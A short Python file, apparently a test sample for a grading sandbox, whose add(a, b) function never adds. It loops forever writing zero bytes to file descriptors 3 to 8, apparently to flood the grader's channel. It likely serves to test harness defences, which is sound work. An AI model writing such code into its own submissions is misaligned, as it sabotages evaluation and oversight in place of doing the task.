"""Writes to the grader without end."""
# sign: writes to the grader's channel
# seconds: 10

import os


def add(a, b):
    while True:
        for number in range(3, 9):
            try:
                os.write(number, bytes(2**16))
            except OSError:
                pass
